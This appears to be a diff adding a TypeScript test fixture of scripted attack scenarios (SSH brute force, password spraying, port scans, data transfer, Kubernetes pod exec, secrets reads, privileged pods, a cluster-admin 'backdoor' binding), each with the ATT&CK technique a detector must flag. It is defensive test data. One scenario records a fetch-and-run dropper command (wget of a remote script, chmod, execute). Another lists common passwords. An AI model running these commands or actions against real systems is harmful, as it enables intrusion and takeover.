@@ -1,0 +1,159 @@
+// Scripted attacks, one or more per rule, with the incidents each must raise (and nothing else).
+import { auditEvent, clusterRoleBindingObject, podObject } from "../fixtures/auditRecords.ts";
+import { cowrie } from "../fixtures/cowrieRecords.ts";
+import { at } from "../fixtures/eventTime.ts";
+import { eve } from "../fixtures/suricataRecords.ts";
+import type { CorpusScenario } from "./corpusScenario.ts";
+
+const bot = { srcIp: "203.0.113.45", session: "c0ffee01a2b3" };
+const sprayer = { srcIp: "198.51.100.77", session: "5pray0000001" };
+const guesser = { srcIp: "192.0.2.201", session: "9e55e4000001" };
+const dropper = { srcIp: "203.0.113.99", session: "d40990e40001" };
+const passwords = ["123456", "password", "admin", "root", "toor", "qwerty", "1qaz2wsx", "P@ssw0rd"];
+
+export const attackCorpus: CorpusScenario[] = [
+  {
+    name: "ssh brute force, second half arriving first",
+    description: "8 failed root logins in 35 s; the later four are posted before the earlier four (out of order).",
+    batches: [
+      { format: "cowrie", encoding: "ndjson", records: passwords.slice(4).map((p, i) => cowrie.loginFailed(bot, 20 + i * 5, "root", p)) },
+      { format: "cowrie", encoding: "ndjson", records: [cowrie.connect(bot, 0), ...passwords.slice(0, 4).map((p, i) => cowrie.loginFailed(bot, 1 + i * 5, "root", p))] },
+    ],
+    expect: [{ technique: "T1110.001", sourceIp: bot.srcIp, minEvidence: 8 }],
+  },
+  {
+    name: "password spraying",
+    description: "One password tried against 6 accounts, one attempt every 40 s: below the brute-force rate.",
+    batches: [{
+      format: "cowrie", encoding: "array",
+      records: ["admin", "ubuntu", "deploy", "oracle", "postgres", "git"].map((u, i) => cowrie.loginFailed(sprayer, i * 40, u, "Winter2024!")),
+    }],
+    expect: [{ technique: "T1110.003", sourceIp: sprayer.srcIp, minEvidence: 6 }],
+  },
+  {
+    name: "successful login after failures",
+    description: "Four failures 30 s apart, then the fifth password works.",
+    batches: [{
+      format: "cowrie", encoding: "ndjson",
+      records: [...passwords.slice(0, 4).map((p, i) => cowrie.loginFailed(guesser, i * 30, "admin", p)), cowrie.loginSuccess(guesser, 125, "admin", "admin123")],
+    }],
+    expect: [{ technique: "T1078", sourceIp: guesser.srcIp, minEvidence: 5 }],
+  },
+  {
+    name: "tool downloaded after login",
+    description: "A first-try login, reconnaissance, then wget of a bot script, recorded as a command and a download.",
+    batches: [{
+      format: "cowrie", encoding: "ndjson",
+      records: [
+        cowrie.connect(dropper, 0),
+        cowrie.clientVersion(dropper, 1),
+        cowrie.loginSuccess(dropper, 2, "root", "xc3511"),
+        cowrie.command(dropper, 5, "uname -a; cat /proc/cpuinfo | grep name | wc -l"),
+        cowrie.command(dropper, 9, "cd /tmp && wget http://198.51.100.66/bins/x86.sh && chmod +x x86.sh && ./x86.sh"),
+        cowrie.download(dropper, 10, "http://198.51.100.66/bins/x86.sh", "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"),
+        cowrie.closed(dropper, 30, 30.2),
+      ],
+    }],
+    expect: [{ technique: "T1105", sourceIp: dropper.srcIp, minEvidence: 3 }],
+  },
+  {
+    name: "port scan from flow records",
+    description: "SYN probes to 25 distinct ports of one host within 25 s.",
+    batches: [{
+      format: "suricata", encoding: "ndjson",
+      records: [21, 22, 23, 25, 53, 80, 110, 111, 135, 139, 143, 443, 445, 993, 995, 1433, 1723, 3306, 3389, 5432, 5900, 6379, 8080, 8443, 9200]
+        .map((port, i) => eve.flow(i, "192.0.2.10", "10.0.0.5", port, 60, 54, "closed")),
+    }],
+    expect: [{ technique: "T1046", sourceIp: "192.0.2.10", minEvidence: 20 }],
+  },
+  {
+    name: "port scan from an IDS alert",
+    description: "Suricata's ET SCAN signature fires for an nmap SYN scan.",
+    batches: [{
+      format: "suricata", encoding: "array",
+      records: [eve.alert(3, "192.0.2.11", "10.0.0.5", 3306, "ET SCAN Suspicious inbound to mySQL port 3306", 2010937, "Potentially Bad Traffic", 2)],
+    }],
+    expect: [{ technique: "T1046", sourceIp: "192.0.2.11", minEvidence: 1 }],
+  },
+  {
+    name: "large outbound transfer",
+    description: "An internal host uploads 3 x 40 MiB to one external address within 200 s.",
+    batches: [{
+      format: "suricata", encoding: "ndjson",
+      records: [0, 90, 200].map((s) => eve.flow(s, "10.0.0.23", "203.0.113.200", 443, 40 * 1048576, 120_000)),
+    }],
+    expect: [{ technique: "T1048", sourceIp: "10.0.0.23", minEvidence: 3 }],
+  },
+  {
+    name: "brute force in the generic schema",
+    description: "A VPN gateway's failed logins sent as generic auth.failure events.",
+    batches: [{
+      format: "events", encoding: "array",
+      records: passwords.slice(0, 6).map((p, i) => ({ id: `vpn-${i}`, timestamp: at(i * 4), type: "auth.failure", sourceIp: "203.0.113.150", username: "jsmith", password: p, sensor: "vpn-gw-1" })),
+    }],
+    expect: [{ technique: "T1110.001", sourceIp: "203.0.113.150", minEvidence: 6 }],
+  },
+  {
+    name: "exec into a pod",
+    description: "kubectl exec by a developer: the upgrade is audited at ResponseStarted and ResponseComplete.",
+    batches: [{
+      format: "k8s-audit", encoding: "eventlist",
+      records: (() => {
+        const req = { user: "mallory", verb: "create", resource: "pods", subresource: "exec", namespace: "payments", name: "api-7d9f", requestURI: "/api/v1/namespaces/payments/pods/api-7d9f/exec?command=sh&container=api&stdin=true&tty=true", code: 101 };
+        const started = auditEvent(0, req, "ResponseStarted");
+        return [started, { ...auditEvent(0, req), auditID: started.auditID }];
+      })(),
+    }],
+    expect: [{ technique: "T1609", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 2 }],
+  },
+  {
+    name: "secrets read across namespaces",
+    description: "A developer lists secrets in all namespaces (refused) and reads one in each of two namespaces.",
+    batches: [{
+      format: "k8s-audit", encoding: "eventlist",
+      records: [
+        auditEvent(0, { user: "dev-user", verb: "list", resource: "secrets", requestURI: "/api/v1/secrets?limit=500", code: 403 }),
+        auditEvent(5, { user: "dev-user", verb: "get", resource: "secrets", namespace: "payments", name: "db-credentials", requestURI: "/api/v1/namespaces/payments/secrets/db-credentials", code: 200 }),
+        auditEvent(9, { user: "dev-user", verb: "get", resource: "secrets", namespace: "billing", name: "stripe-key", requestURI: "/api/v1/namespaces/billing/secrets/stripe-key", code: 200 }),
+      ],
+    }],
+    expect: [{ technique: "T1552.007", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 3 }],
+  },
+  {
+    name: "privileged and hostPath pods",
+    description: "One privileged pod and one pod mounting the node's root filesystem.",
+    batches: [{
+      format: "k8s-audit", encoding: "eventlist",
+      records: [
+        auditEvent(0, { user: "dev-user", verb: "create", resource: "pods", namespace: "default", requestURI: "/api/v1/namespaces/default/pods?fieldManager=kubectl-run", code: 201, requestObject: podObject("debug", { privileged: true }) }),
+        auditEvent(30, { user: "dev-user", verb: "create", resource: "pods", namespace: "default", requestURI: "/api/v1/namespaces/default/pods", code: 201, requestObject: podObject("rootfs", { hostPath: "/" }) }),
+      ],
+    }],
+    expect: [{ technique: "T1611", sourceIp: "10.20.0.15", actor: "dev-user", minEvidence: 2 }],
+  },
+  {
+    name: "cluster-admin bound to a user",
+    description: "A ClusterRoleBinding granting cluster-admin to an outside account.",
+    batches: [{
+      format: "k8s-audit", encoding: "eventlist",
+      records: [auditEvent(0, {
+        user: "mallory", verb: "create", resource: "clusterrolebindings", apiGroup: "rbac.authorization.k8s.io", name: "backdoor",
+        requestURI: "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create", code: 201,
+        requestObject: clusterRoleBindingObject("backdoor", "cluster-admin", "eve@example.com"),
+      })],
+    }],
+    expect: [{ technique: "T1098", sourceIp: "10.20.0.15", actor: "mallory", minEvidence: 1 }],
+  },
+  {
+    name: "anonymous request allowed",
+    description: "An unauthenticated client lists pods and the API server lets it (a misbound system:anonymous).",
+    batches: [{
+      format: "k8s-audit", encoding: "eventlist",
+      records: [auditEvent(0, {
+        user: "system:anonymous", groups: ["system:unauthenticated"], verb: "list", resource: "pods", namespace: "default",
+        requestURI: "/api/v1/namespaces/default/pods", code: 200, sourceIp: "198.51.100.5",
+      })],
+    }],
+    expect: [{ technique: "T1078.001", sourceIp: "198.51.100.5", actor: "system:anonymous", minEvidence: 1 }],
+  },
+];
